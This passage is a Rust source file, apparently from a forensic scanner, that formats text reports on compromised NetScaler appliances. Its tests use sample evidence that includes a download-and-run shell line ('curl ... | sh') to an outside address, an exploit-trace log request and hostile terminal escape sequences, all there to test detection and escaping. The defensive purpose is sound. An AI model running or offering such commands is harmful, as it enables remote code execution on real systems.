//! The text report, for a person reading a terminal or a saved file.
//!
//! The verdict comes first (for a compromised appliance followed by what happened: when, from
//! where, which files), then the posture, what was scanned, the findings by severity (findings
//! of one rule and shape grouped into one entry, rule patterns only with `--explain`, those
//! below `--min-severity` counted, not listed), what could not be examined and a rule summary. Every string that comes from the evidence, the rules or the
//! command line goes through [`sanitize`](super::sanitize): this renderer must never write a raw
//! control character, and writes ANSI colour only when asked to.

use super::group;
use super::sanitize::{escape_bytes, escape_str, escape_text};
use crate::model::{Finding, Report, Severity, SourceCoverage, TimeGapStatus, Timestamp, Verdict};
use std::io::{self, Write};

/// The width the report is laid out for; only paths, excerpts and other evidence that must
/// not be cut run past it.
const WIDTH: usize = 100;

/// Width of the labels in front of finding details (`path:    `).
const LABEL: usize = 9;

/// How the text report is shown: colour, patterns, and which findings are listed. The other
/// formats ignore it and keep everything.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct TextView {
    /// ANSI colour on the verdict line and severities.
    pub(crate) color: bool,
    /// Show reasons whole, rule patterns included (`--explain`).
    pub(crate) explain: bool,
    /// List only findings of this severity or above (`--min-severity`); the rest are counted.
    pub(crate) min_severity: Option<Severity>,
}

/// Writes the text report. With `color` false the output contains no escape sequence.
pub(crate) fn render(report: &Report, out: &mut dyn Write, color: bool) -> io::Result<()> {
    render_view(
        report,
        out,
        &TextView {
            color,
            ..TextView::default()
        },
    )
}

/// Writes the text report as `view` asks.
pub(crate) fn render_view(report: &Report, out: &mut dyn Write, view: &TextView) -> io::Result<()> {
    let p = Painter { color: view.color };
    let mut s = String::new();
    verdict_section(report, &p, &mut s);
    what_happened(report, &mut s);
    posture_section(report, &mut s);
    time_section(report, &mut s);
    target_section(report, &mut s);
    findings_section(report, &p, view, &mut s);
    coverage_section(report, &mut s);
    rules_section(report, &p, &mut s);
    out.write_all(s.as_bytes())
}

/// The report's first line alone (`VERDICT: CLEAN`), for `--quiet`.
pub(crate) fn verdict_line(report: &Report, out: &mut dyn Write, color: bool) -> io::Result<()> {
    let p = Painter { color };
    let line = format!("VERDICT: {}", report.verdict.as_str().to_ascii_uppercase());
    writeln!(out, "{}", p.verdict(report.verdict, &line))
}

/// Adds ANSI colour when enabled; otherwise returns the text unchanged.
struct Painter {
    color: bool,
}

impl Painter {
    fn paint(&self, sgr: &str, text: &str) -> String {
        if self.color {
            format!("\x1b[{sgr}m{text}\x1b[0m")
        } else {
            text.to_owned()
        }
    }

    fn verdict(&self, v: Verdict, text: &str) -> String {
        let sgr = match v {
            Verdict::Clean => "1;32",
            Verdict::Review => "1;33",
            Verdict::Compromised => "1;31",
            Verdict::Inconclusive => "1;35",
        };
        self.paint(sgr, text)
    }

    fn severity(&self, sev: Severity, text: &str) -> String {
        let sgr = match sev {
            Severity::Critical => "1;31",
            Severity::High => "31",
            Severity::Medium => "33",
            Severity::Low => "36",
            Severity::Info => "2",
        };
        self.paint(sgr, text)
    }
}

fn verdict_section(r: &Report, p: &Painter, s: &mut String) {
    let line = format!("VERDICT: {}", r.verdict.as_str().to_ascii_uppercase());
    s.push_str(&p.verdict(r.verdict, &line));
    s.push('\n');
    for reason in &r.reasons {
        wrap_into(s, &escape_text(reason), "  - ", "    ");
    }
    s.push('\n');
}

/// Firmware, CVEs and mitigation: beside the verdict, never part of it.
fn posture_section(r: &Report, s: &mut String) {
    let p = &r.posture;
    if p.firmware.is_none() && p.cves.is_empty() {
        return;
    }
    s.push_str("POSTURE (beside the verdict, not part of it)\n");
    let fw = p
        .firmware
        .as_deref()
        .map_or("unknown".to_owned(), escape_str);
    let mut who = Vec::new();
    for (k, v) in [
        ("host", &p.hostname),
        ("NSIP", &p.nsip),
        ("time zone", &p.timezone),
    ] {
        if let Some(v) = v {
            who.push(format!("{k} {}", escape_str(v)));
        }
    }
    let who = if who.is_empty() {
        String::new()
    } else {
        format!(" ({})", who.join(", "))
    };
    s.push_str(&format!("  Firmware {fw}{who}\n"));
    for d in &p.disagreements {
        wrap_into(s, &format!("note: {}", escape_str(d)), "    ", "      ");
    }
    for c in &p.cves {
        let status = match c.status {
            crate::model::CveStatus::Vulnerable => "VULNERABLE",
            crate::model::CveStatus::Fixed => "fixed",
            crate::model::CveStatus::Unknown => "unknown",
            crate::model::CveStatus::NotAffected => "not affected",
        };
        wrap_into(
            s,
            &format!(
                "{:<15} {status}: {}",
                escape_str(&c.id),
                escape_str(&c.evidence)
            ),
            "  ",
            "                  ",
        );
        cve_lines(c, s);
    }
    for m in &p.mitigations {
        mitigation_lines(m, s);
    }
    if !p.secrets_to_rotate.is_empty() {
        s.push_str("  Rotate these secrets (the configuration was within the attacker's reach):\n");
        for x in &p.secrets_to_rotate {
            wrap_into(s, &escape_str(x), "    - ", "      ");
        }
    }
    s.push('\n');
}

/// A CVE's exposing configuration and the end of its exposure, under its status line.
fn cve_lines(c: &crate::model::CvePosture, s: &mut String) {
    let indent = "                  ";
    if let Some(e) = &c.exposure {
        wrap_into(s, &escape_str(&e.summary), indent, indent);
        for l in &e.lines {
            wrap_into(
                s,
                &format!(
                    "{} ({}:{}): {}",
                    escape_str(&l.what),
                    escape_str(&l.path),
                    l.line,
                    escape_str(&l.text)
                ),
                &format!("{indent}  "),
                &format!("{indent}    "),
            );
        }
    }
    if let Some(l) = &c.left_vulnerable {
        let days = (l.at.unix() - l.vulnerable_from.unix()) / 86_400;
        wrap_into(
            s,
            &format!(
                "left the vulnerable build on {} ({}): exposed at least from {} to {}, {days} days ({})",
                l.at.date(),
                escape_str(&l.build),
                l.vulnerable_from.date(),
                l.at.date(),
                escape_str(&l.evidence)
            ),
            indent,
            indent,
        );
    }
}

/// A mitigation in words: in place or not, each part, which is missing, whether it held.
fn mitigation_lines(m: &crate::model::Mitigation, s: &mut String) {
    let state = match m.effective {
        Some(true) => "in place".to_owned(),
        Some(false) if m.missing.is_empty() => "present but NOT effective".to_owned(),
        Some(false) => format!("NOT in place: missing {}", m.missing.join("; ")),
        None => "unknown (the evidence does not show every part)".to_owned(),
    };
    let since = m
        .since
        .map_or(String::new(), |t| format!(", since {}", t.date()));
    wrap_into(
        s,
        &format!(
            "Mitigation {} for {} ({}): {}{since}",
            escape_str(&m.id),
            escape_str(&m.cve),
            escape_str(&m.name),
            escape_str(&state)
        ),
        "  ",
        "    ",
    );
    for part in &m.parts {
        let mark = match part.present {
            Some(true) => "present",
            Some(false) => "MISSING",
            None => "unknown",
        };
        let line = part
            .line
            .as_deref()
            .map_or(String::new(), |l| format!(": {}", escape_str(l)));
        wrap_into(
            s,
            &format!(
                "{mark}: {} ({}){line}",
                escape_str(&part.name),
                escape_str(&part.place)
            ),
            "    - ",
            "      ",
        );
    }
    if let Some(h) = &m.held {
        let word = if h.held { "held" } else { "DID NOT HOLD" };
        wrap_into(
            s,
            &format!("{word}: {}", escape_str(&h.summary)),
            "    ",
            "      ",
        );
        for x in &h.examples {
            wrap_into(s, &escape_bytes(&x.0), "      > ", "        ");
        }
    }
    for n in &m.notes {
        wrap_into(s, &format!("note: {}", escape_str(n)), "    ", "      ");
    }
}

/// What time the logs cover, per source, and whether that reaches each pack's window.
fn time_section(r: &Report, s: &mut String) {
    let dated: Vec<_> = r
        .coverage
        .sources
        .iter()
        .filter(|x| !x.files.is_empty())
        .collect();
    if dated.is_empty() && r.windows.is_empty() {
        return;
    }
    s.push_str(
        "LOGS COVER
",
    );
    let day = |t: Option<Timestamp>| t.map_or("-".to_owned(), Timestamp::minute);
    let w = dated
        .iter()
        .map(|x| x.id.chars().count())
        .max()
        .unwrap_or(6)
        .max(6);
    s.push_str(&format!(
        "  {:<w$}  {:<16}  {:<16}  FILES\n",
        "SOURCE", "FROM", "TO"
    ));
    for src in &dated {
        let mark = if src.year_inferred {
            " (year inferred)"
        } else {
            ""
        };
        let holes = src
            .time_gaps
            .iter()
            .filter(|g| g.status == TimeGapStatus::Hole)
            .count();
        let gaps = if holes == 0 {
            String::new()
        } else {
            format!(", {}", plural(holes as u64, "HOLE", "HOLES"))
        };
        s.push_str(&format!(
            "  {:<w$}  {:<16}  {:<16}  {}{mark}{gaps}\n",
            escape_str(&src.id),
            day(src.from),
            day(src.to),
            src.files.len()
        ));
    }
    holes_and_downtime(r, s);
    if let Some(z) = &r.coverage.timezone {
        let line = if z.assumed {
            format!("Syslog header times: UTC, assumed ({})", z.note)
        } else {
            format!(
                "Syslog header times: local time of {} ({}; {})",
                z.zone, z.daylight_saving, z.note
            )
        };
        wrap_into(s, &escape_text(&line), "  ", "    ");
    }
    for win in &r.windows {
        let status = match win.status {
            crate::model::WindowStatus::Covered => "covered",
            crate::model::WindowStatus::NotCovered => "NOT COVERED",
            crate::model::WindowStatus::NotRelevant => "not relevant",
        };
        let line = format!(
            "{} from {}: {status}: {}",
            escape_text(&win.title),
            win.from.date(),
            escape_text(&win.detail)
        );
        wrap_into(s, &line, "  * ", "    ");
    }
    s.push('\n');
}

/// `2020-01-12 10:32`; `?` when unknown.
fn minute(t: Option<Timestamp>) -> String {
    t.map_or("?".to_owned(), Timestamp::minute)
}

/// When the appliance was off, and every hole of every source, dated, under the table.
fn holes_and_downtime(r: &Report, s: &mut String) {
    for d in &r.coverage.downtime {
        let line = format!(
            "appliance off from {} to {}: {}",
            d.from.minute(),
            d.to.minute(),
            escape_text(&d.detail)
        );
        wrap_into(s, &line, "  * ", "    ");
    }
    for src in &r.coverage.sources {
        for g in src
            .time_gaps
            .iter()
            .filter(|g| g.status == TimeGapStatus::Hole)
        {
            let line = format!(
                "{} HOLE from {} to {}: {}",
                escape_str(&src.id),
                minute(g.from),
                minute(g.to),
                escape_text(&g.detail)
            );
            wrap_into(s, &line, "  * ", "    ");
        }
    }
}

fn target_section(r: &Report, s: &mut String) {
    let c = &r.coverage;
    s.push_str(&format!(
        "Target:   {} ({})\n",
        escape_str(&r.target.path),
        escape_str(&r.target.input)
    ));
    if let Some(d) = &r.target.detail {
        s.push_str(&format!("Input:    {}\n", escape_str(d)));
    }
    for i in &r.target.inputs {
        s.push_str(&format!(
            "Digest:   {}: {} bytes, sha256 {}{}\n",
            escape_str(&i.path),
            i.bytes,
            i.sha256
                .as_deref()
                .map_or_else(|| "unavailable (read error)".to_owned(), escape_str),
            if i.complete {
                ""
            } else {
                " (of the bytes received: sporen stopped reading early)"
            }
        ));
    }
    s.push_str(&format!(
        "Tool:     {} {}\nRules:    sha256 {}\n",
        escape_str(&r.tool.name),
        escape_str(&r.tool.version),
        escape_str(&r.rules_sha256)
    ));
    let blocking = c.gaps.iter().filter(|g| g.blocks_clean).count();
    let layout = if c.looks_like_appliance {
        "appliance layout recognised"
    } else {
        "NOT a recognised appliance layout"
    };
    s.push_str(&format!(
        "Coverage: {}/{} files read ({}), {}, {} blocking clean; {}\n\n",
        c.files_read,
        c.files_seen,
        human_bytes(c.bytes_read),
        plural(c.gaps.len() as u64, "gap", "gaps"),
        blocking,
        layout
    ));
}

/// For a compromised appliance, before everything else: when the critical and high traces
/// were logged, the addresses in those lines and the files that are traces themselves.
fn what_happened(r: &Report, s: &mut String) {
    if r.verdict != Verdict::Compromised {
        return;
    }
    let sum = group::summary(r);
    s.push_str("WHAT HAPPENED (from the critical and high findings)\n");
    match sum.logged {
        Some((a, b)) if a == b => s.push_str(&format!("  Logged:    {a}\n")),
        Some((a, b)) => s.push_str(&format!("  Logged:    first {a}, last {b}\n")),
        None => s.push_str("  Logged:    no critical or high log line\n"),
    }
    let addrs: Vec<String> = sum.addresses.iter().map(ToString::to_string).collect();
    let addrs = if addrs.is_empty() {
        "none in the critical and high lines".to_owned()
    } else {
        listed(&addrs, MAX_LISTED)
    };
    wrap_into(s, &format!("Addresses: {addrs}"), "  ", &" ".repeat(13));
    if sum.files.is_empty() {
        s.push_str("  Files:     no critical or high file\n");
    }
    for (i, (path, mtime)) in sum.files.iter().enumerate() {
        let head = if i == 0 {
            "  Files:     "
        } else {
            "             "
        };
        let when = mtime.map_or(String::new(), |t| format!(" (modified {t})"));
        s.push_str(&format!("{head}{}{when}\n", escape_bytes(path)));
    }
    s.push('\n');
}

/// Most items written out in one list of a grouped finding; the rest are counted.
const MAX_LISTED: usize = 8;

/// `a, b, c and 5 more`.
fn listed(items: &[String], max: usize) -> String {
    let shown = items
        .iter()
        .take(max)
        .cloned()
        .collect::<Vec<_>>()
        .join(", ");
    match items.len().saturating_sub(max) {
        0 => shown,
        more => format!("{shown} and {more} more"),
    }
}

fn findings_section(r: &Report, p: &Painter, view: &TextView, s: &mut String) {
    if r.findings.is_empty() {
        s.push_str("FINDINGS: none\n\n");
        return;
    }
    let counts: Vec<String> = Severity::DESCENDING
        .iter()
        .map(|&sev| {
            let n = r.findings.iter().filter(|f| f.severity == sev).count();
            format!("{n} {sev}")
        })
        .collect();
    s.push_str(&format!(
        "FINDINGS: {} ({})\n",
        r.findings.len(),
        counts.join(", ")
    ));
    let floor = view.min_severity.unwrap_or(Severity::Info);
    let hidden = r.findings.iter().filter(|f| f.severity < floor).count();
    if hidden > 0 {
        let line = format!(
            "{} below {floor} not listed here (--min-severity {floor}); the JSON report has every finding",
            plural(hidden as u64, "finding", "findings")
        );
        wrap_into(s, &line, "  ", "    ");
    }
    for sev in Severity::DESCENDING.into_iter().filter(|&sev| sev >= floor) {
        let of_sev: Vec<&Finding> = r.findings.iter().filter(|f| f.severity == sev).collect();
        if of_sev.is_empty() {
            continue;
        }
        s.push('\n');
        let head = format!("{} ({})", sev.as_str().to_ascii_uppercase(), of_sev.len());
        s.push_str(&p.severity(sev, &head));
        s.push('\n');
        for g in group::group(&of_sev) {
            if g.findings.len() == 1 {
                finding(g.head(), p, view, s);
            } else {
                grouped(&g, p, view, s);
            }
        }
    }
    if !view.explain && r.findings.iter().any(|f| hides_pattern(&f.reason)) {
        s.push('\n');
        wrap_into(
            s,
            "Rule patterns are left out of the reasons above: --explain shows them, the JSON report has them.",
            "",
            "",
        );
    }
    s.push('\n');
}

/// The heading line of a finding or a group: `[low] rule: title`.
fn finding_head(f: &Finding, p: &Painter, extra: &str, s: &mut String) {
    let tag = p.severity(f.severity, &format!("[{}]", f.severity.as_str()));
    s.push_str(&format!(
        "  {tag} {}: {}{extra}\n",
        escape_str(&f.rule),
        escape_str(&f.title)
    ));
}

/// The reason, its patterns left out unless `--explain`; never wrapped inside a pattern.
fn reason(f: &Finding, view: &TextView, s: &mut String) {
    let text = if view.explain {
        escape_text(&f.reason)
    } else {
        escape_text(&without_patterns(&f.reason))
    };
    wrap_into(s, &text, &label("reason"), &" ".repeat(4 + LABEL));
}

fn finding(f: &Finding, p: &Painter, view: &TextView, s: &mut String) {
    finding_head(f, p, "", s);
    detail(s, "path", &escape_bytes(f.path.as_bytes()));
    if let Some(b64) = &f.path_base64 {
        detail(s, "base64", &escape_str(b64));
    }
    let collapsed = (f.count > 1).then(|| match f.last_line {
        Some(l) => format!("({} matching lines, last at line {l})", f.count),
        None => format!("({} matching lines)", f.count),
    });
    match (f.line, &collapsed) {
        (Some(line), Some(c)) => detail(s, "line", &format!("{line} {c}")),
        (Some(line), None) => detail(s, "line", &line.to_string()),
        (None, Some(c)) => detail(s, "matches", c),
        (None, None) => {}
    }
    if let Some(e) = &f.excerpt {
        detail(s, "excerpt", &escape_bytes(&e.0));
    }
    if f.count > 1
        && let Some(e) = &f.last_excerpt
    {
        detail(s, "last", &escape_bytes(&e.0));
    }
    reason(f, view, s);
    // A logged line is dated by the log; the log file's digest and time are in the coverage.
    let logged = f.time.is_some();
    if let Some(h) = f.sha256.as_ref().filter(|_| !logged || view.explain) {
        detail(s, "sha256", &escape_str(h));
    }
    if let Some(t) = f.time {
        let mut when = t.to_string();
        if let Some(l) = f.last_time {
            when.push_str(&format!(" .. {l}"));
        }
        if f.time_inferred {
            when.push_str(" (year inferred)");
        }
        detail(s, "logged", &when);
    }
    if let Some(m) = f.mtime.filter(|_| !logged || view.explain) {
        detail(s, "mtime", &m.to_string());
    }
}

/// Several findings of one shape as one entry: how many, the first and the last, the files
/// and the addresses in their lines.
fn grouped(g: &group::Group<'_>, p: &Painter, view: &TextView, s: &mut String) {
    let files = g.files();
    let head = g.head();
    let what = if head.line.is_some() || head.time.is_some() {
        "matching lines"
    } else {
        "files"
    };
    let extra = if files.len() > 1 && what != "files" {
        format!(" ({} {what} in {} files)", g.lines(), files.len())
    } else {
        format!(" ({} {what})", g.lines())
    };
    finding_head(head, p, &extra, s);
    reason(head, view, s);
    for (name, end) in [("first", g.first()), ("last", g.last())] {
        let mut at = escape_bytes(end.finding.path.as_bytes());
        if let Some(l) = end.line {
            at.push_str(&format!(":{l}"));
        }
        if let Some(t) = end.time {
            at.push_str(&format!(" at {t}"));
            if end.finding.time_inferred {
                at.push_str(" (year inferred)");
            }
        }
        detail(s, name, &at);
        if let Some(e) = end.excerpt {
            s.push_str(&" ".repeat(4 + LABEL));
            s.push_str(&escape_bytes(e));
            s.push('\n');
        }
    }
    if head.time.is_none() {
        // Files that are traces themselves: each with its digest, as a single finding has.
        for (i, f) in g.findings.iter().enumerate() {
            let name = if i == 0 { "files" } else { "" };
            let digest = f
                .sha256
                .as_deref()
                .map_or(String::new(), |h| format!("  sha256 {}", escape_str(h)));
            detail(
                s,
                name,
                &format!("{}{digest}", escape_bytes(f.path.as_bytes())),
            );
        }
    } else {
        let names: Vec<String> = files.iter().map(|f| escape_bytes(f)).collect();
        wrap_into(
            s,
            &listed(&names, MAX_LISTED),
            &label("files"),
            &" ".repeat(4 + LABEL),
        );
    }
    let addrs: Vec<String> = g.addresses().iter().map(ToString::to_string).collect();
    if !addrs.is_empty() {
        let text = format!("{} distinct: {}", addrs.len(), listed(&addrs, MAX_LISTED));
        wrap_into(s, &text, &label("sources"), &" ".repeat(4 + LABEL));
    }
}

/// True when `reason` quotes a rule pattern (a regular expression) that the plain view leaves out.
fn hides_pattern(reason: &str) -> bool {
    without_patterns(reason) != reason
}

/// `reason` with every back-quoted regular expression replaced by "the rule's pattern";
/// literal strings and path globs stay, they read as they are.
fn without_patterns(reason: &str) -> String {
    let mut out = String::with_capacity(reason.len());
    let mut parts = reason.split('`');
    if let Some(first) = parts.next() {
        out.push_str(first);
    }
    let mut quoted = true;
    for part in parts {
        if quoted && part.contains(['\\', '(', '[', '{', '^', '$', '|', '+', '?']) {
            out.push_str("the rule's pattern");
        } else if quoted {
            out.push('`');
            out.push_str(part);
            out.push('`');
        } else {
            out.push_str(part);
        }
        quoted = !quoted;
    }
    // An unbalanced back quote leaves the rest as it was written.
    if quoted && reason.matches('`').count() % 2 == 1 {
        return reason.to_owned();
    }
    for (twice, once) in [
        (
            "the rule's pattern, the rule's pattern",
            "the rule's patterns",
        ),
        (
            "the rule's patterns, the rule's pattern",
            "the rule's patterns",
        ),
    ] {
        while out.contains(twice) {
            out = out.replace(twice, once);
        }
    }
    out
}

/// `    name:    `, or as many spaces for a continuation line (an empty name).
fn label(name: &str) -> String {
    if name.is_empty() {
        return " ".repeat(4 + LABEL);
    }
    format!("    {:<width$}", format!("{name}:"), width = LABEL)
}

/// One `    name:    value` line; the value is written whole, however long.
fn detail(s: &mut String, name: &str, value: &str) {
    s.push_str(&label(name));
    s.push_str(value);
    s.push('\n');
}

fn coverage_section(r: &Report, s: &mut String) {
    let c = &r.coverage;
    s.push_str("COVERAGE\n");
    wrap_into(
        s,
        &format!(
            "{}: {} ({} read, {}), {}, {}, {} skipped",
            plural(c.entries_seen, "entry", "entries"),
            plural(c.files_seen, "file", "files"),
            c.files_read,
            human_bytes(c.bytes_read),
            plural(c.dirs_seen, "dir", "dirs"),
            plural(c.symlinks_seen, "symlink", "symlinks"),
            plural(c.special_files_skipped, "special file", "special files"),
        ),
        "  ",
        "  ",
    );
    for n in &c.notes {
        wrap_into(s, &format!("note: {}", escape_str(n)), "  ", "    ");
    }
    s.push('\n');
    sources_table(&c.sources, s);
    s.push('\n');

    let blocking = c.gaps.iter().filter(|g| g.blocks_clean).count();
    if c.gaps.is_empty() {
        s.push_str("Gaps: none\n\n");
        return;
    }
    s.push_str(&format!(
        "Gaps: {} ({} blocking a clean verdict)\n",
        c.gaps.len(),
        blocking
    ));
    for g in &c.gaps {
        s.push_str(&format!("  {}\n", escape_bytes(g.path.as_bytes())));
        if let Some(b64) = &g.path_base64 {
            s.push_str(&format!("    base64: {}\n", escape_str(b64)));
        }
        let blocks = if g.blocks_clean {
            "[blocks clean]"
        } else {
            "[does not block clean]"
        };
        let text = format!("{}: {} {}", g.cause.as_str(), escape_str(&g.detail), blocks);
        wrap_into(s, &text, "    ", "      ");
    }
    s.push('\n');
}

fn sources_table(sources: &[SourceCoverage], s: &mut String) {
    if sources.is_empty() {
        s.push_str("Evidence sources: none defined\n");
        return;
    }
    s.push_str("Evidence sources:\n");
    let header = ["ID", "REQUIRED", "FILES", "BYTES", "READ", "TITLE"];
    let rows: Vec<[String; 6]> = sources
        .iter()
        .map(|src| {
            [
                escape_str(&src.id),
                if src.required { "yes" } else { "no" }.to_owned(),
                src.files.len().to_string(),
                human_bytes(src.bytes),
                format!("{}/{}", src.files_read, src.files.len()),
                escape_str(&src.title),
            ]
        })
        .collect();
    let mut widths = header.map(str::len);
    for row in &rows {
        for (w, cell) in widths.iter_mut().zip(row.iter()) {
            *w = (*w).max(cell.chars().count());
        }
    }
    // Numbers are right-aligned; the title takes what is left of the line.
    let right = [false, false, true, true, true, false];
    let line = |cells: [&str; 6]| {
        let mut l = String::from(" ");
        for i in 0..5 {
            l.push(' ');
            l.push_str(&pad(cells[i], widths[i], right[i]));
            l.push(' ');
        }
        l.push(' ');
        let room = WIDTH.saturating_sub(l.chars().count()).max(20);
        l.push_str(&truncate(cells[5], room));
        l.trim_end().to_owned()
    };
    s.push_str(&line(header));
    s.push('\n');
    for row in &rows {
        let cells = [
            row[0].as_str(),
            row[1].as_str(),
            row[2].as_str(),
            row[3].as_str(),
            row[4].as_str(),
            row[5].as_str(),
        ];
        s.push_str(&line(cells));
        s.push('\n');
    }
}

fn rules_section(r: &Report, p: &Painter, s: &mut String) {
    let fired: Vec<_> = r.rules.iter().filter(|h| h.findings > 0).collect();
    s.push_str(&format!(
        "RULES: {} in force, {} fired, {} did not fire\n",
        r.rules.len(),
        fired.len(),
        r.rules.len() - fired.len()
    ));
    let id_width = fired
        .iter()
        .map(|h| escape_str(&h.id).chars().count())
        .max()
        .unwrap_or(0);
    for h in fired {
        let sev = p.severity(h.severity, &format!("{:<8}", h.severity.as_str()));
        s.push_str(&format!(
            "  {}  {sev}  {}, {}\n",
            pad(&escape_str(&h.id), id_width, false),
            plural(h.findings, "finding", "findings"),
            plural(h.hits, "hit", "hits"),
        ));
    }
}

/// Word-wraps `text` (already escaped, so without newlines) at [`WIDTH`] columns. Words longer
/// than a line are not cut, and a back-quoted span (a rule pattern) is one word: it is never
/// broken at its own spaces.
fn wrap_into(s: &mut String, text: &str, first: &str, rest: &str) {
    let mut line = String::from(first);
    let mut len = first.chars().count();
    let mut empty = true;
    for word in words(text) {
        let wlen = word.chars().count();
        if !empty && len + 1 + wlen > WIDTH {
            s.push_str(&line);
            s.push('\n');
            line = String::from(rest);
            len = rest.chars().count();
            empty = true;
        }
        if !empty {
            line.push(' ');
            len += 1;
        }
        line.push_str(word);
        len += wlen;
        empty = false;
    }
    s.push_str(line.trim_end());
    s.push('\n');
}

/// `text` split at spaces outside back quotes.
fn words(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut quoted = false;
    for (i, c) in text.char_indices() {
        match c {
            '`' => quoted = !quoted,
            ' ' if !quoted => {
                out.push(&text[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&text[start..]);
    out
}

fn pad(cell: &str, width: usize, right: bool) -> String {
    if right {
        format!("{cell:>width$}")
    } else {
        format!("{cell:<width$}")
    }
}

fn truncate(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_owned();
    }
    let mut t: String = text.chars().take(max.saturating_sub(3)).collect();
    t.push_str("...");
    t
}

fn plural(n: u64, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// Sizes in binary units with one decimal (`12.3 MiB`); exact below 1 KiB.
fn human_bytes(n: u64) -> String {
    const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if n < 1024 {
        return format!("{n} B");
    }
    let mut value = n as f64 / 1024.0;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    format!("{value:.1} {}", UNITS[unit])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{Format, raw_controls, render_string, sample_report};

    fn text(color: bool) -> String {
        render_string(&sample_report(), Format::Text, color)
    }

    #[test]
    fn verdict_comes_first_with_reasons() {
        let t = text(false);
        let mut lines = t.lines();
        assert_eq!(lines.next(), Some("VERDICT: COMPROMISED"));
        assert_eq!(
            lines.next(),
            Some("  - 2 findings of critical or high severity.")
        );
        assert!(t.contains("Target:   /evidence/ns1 (directory)\n"));
        assert!(t.contains("Coverage: 980/1000 files read (12.3 MiB), 3 gaps, 1 blocking clean"));
    }

    #[test]
    fn controls_are_escaped() {
        let t = text(false);
        assert_eq!(raw_controls(&t, &['\n']), Vec::<char>::new());
        assert!(!t.contains('\u{202e}'));
        // The non-UTF-8 path with a newline, the ESC sequence and newline in the excerpt.
        assert!(t.contains("    path:    /netscaler/portal/templates/evil\\xff\\n.xml\n"));
        assert!(t.contains("\\x1b[31mred\\x1b[0m\\nnext\n"));
        assert!(t.contains("a\\u{202e}gnp.php"));
        // The gap path with an OSC title sequence, its detail with CR LF.
        assert!(t.contains("  /tmp/\\x1b]0;pwned\\x07\\xfe\n"));
        assert!(t.contains("special_file: FIFO\\r\\nnot opened [does not block clean]"));
        assert!(t.contains("unreadable: Permission denied (os error 13) [blocks clean]"));
    }

    #[test]
    fn posture_says_exposure_mitigation_parts_and_whether_it_held_in_words() {
        let t = text(false);
        let flat = t.split_whitespace().collect::<Vec<_>>().join(" ");
        for said in [
            "vulnerable build, exposed configuration",
            "Gateway virtual server (/flash/nsconfig/ns.conf:21): add vpn vserver gw\\x1b]0;pwned\\x07",
            "left the vulnerable build on 2020-01-25 (13.0-47.24): exposed at least from 2019-10-14 to 2020-01-25, 103 days",
            "Mitigation CTX267679 for CVE-2019-19781",
            "NOT in place: missing responder feature enabled",
            "MISSING: responder feature enabled (/flash/nsconfig/ns.conf)",
            "present: policy bound globally with -type REQ_OVERRIDE (/flash/nsconfig/ns.conf:28): bind responder global ctx\\x1b[2J",
            "DID NOT HOLD: from 2020-01-13 on, 2 attempts",
            "newbm.pl HTTP/1.1\" 200 143 \"\\x1b[2J\\xff\"",
        ] {
            assert!(flat.contains(said), "{said:?} not in:\n{t}");
        }
    }

    #[test]
    fn findings_are_grouped_most_severe_first() {
        let t = text(false);
        let pos = |needle: &str| t.find(needle).unwrap_or(usize::MAX);
        let heads = [
            "\nCRITICAL (1)\n",
            "\nHIGH (1)\n",
            "\nMEDIUM (1)\n",
            "\nINFO (1)\n",
        ];
        for pair in heads.windows(2) {
            assert!(pos(pair[0]) < pos(pair[1]), "{pair:?}");
        }
        assert!(!t.contains("\nLOW ("));
        assert!(t.contains("FINDINGS: 4 (1 critical, 1 high, 1 medium, 0 low, 1 info)\n"));
        assert!(t.contains("    line:    10 (5 matching lines, last at line 42)\n"));
        assert!(t.contains("    last:    -curl http://198.51.100.7/y | sh\\t#\n"));
        // A logged line is dated by its log: the log's digest and time only with --explain.
        let digest = format!("    sha256:  {}\n", "a".repeat(64));
        assert!(!t.contains(&digest));
        assert!(!t.contains("    mtime:   2020-01-11T23:41:07Z\n"));
        let explained = render_view_string(&sample_report(), true, None);
        assert!(explained.contains(&digest));
        assert!(explained.contains("    mtime:   2020-01-11T23:41:07Z\n"));
        // The single-hit finding has no collapse note.
        assert!(t.contains("    line:    1\n"));
    }

    #[test]
    fn coverage_and_rule_summary() {
        let t = text(false);
        assert!(t.contains("  ID            REQUIRED  FILES    BYTES  READ  TITLE\n"));
        assert!(t.contains(
            "  access-log    yes           2  2.4 MiB   1/2  Apache access log (httpaccess.log)\n"
        ));
        assert!(t.contains("  1300 entries: 1000 files (980 read, 12.3 MiB), 250 dirs, "));
        assert!(t.contains("Gaps: 3 (1 blocking a clean verdict)\n"));
        assert!(t.contains("RULES: 6 in force, 4 fired, 2 did not fire\n"));
        assert!(t.contains("history.curl-pipe-shell            medium    1 finding, 5 hits\n"));
        // Rules that did not fire are counted, not listed.
        assert!(!t.contains("history.failed-login"));
    }

    #[test]
    fn fits_in_width_except_evidence() {
        for line in text(false).lines() {
            let evidence = [
                "    path:",
                "    excerpt:",
                "    last:",
                "    sha256:",
                "  /",
            ];
            if evidence.iter().any(|p| line.starts_with(p)) {
                continue;
            }
            assert!(line.chars().count() <= WIDTH, "too wide: {line}");
        }
    }

    #[test]
    fn color_marks_verdict_and_severities_only_when_asked() {
        let t = text(true);
        assert!(t.starts_with("\x1b[1;31mVERDICT: COMPROMISED\x1b[0m\n"));
        assert!(t.contains("\x1b[1;31m[critical]\x1b[0m"));
        assert!(t.contains("\x1b[33mMEDIUM (1)\x1b[0m"));
        // Colour only adds SGR sequences: removing them gives back the plain report.
        let sgr = regex::Regex::new("\x1b\\[[0-9;]*m").expect("constant regex");
        assert_eq!(sgr.replace_all(&t, ""), text(false));
    }

    #[test]
    fn empty_report_reads_well() {
        let mut r = sample_report();
        r.findings.clear();
        r.coverage.gaps.clear();
        r.coverage.sources.clear();
        r.reasons = vec!["All required sources were read and no rule fired.".into()];
        r.verdict = Verdict::Clean;
        let t = render_string(&r, Format::Text, false);
        assert!(t.starts_with("VERDICT: CLEAN\n"));
        assert!(t.contains("FINDINGS: none\n"));
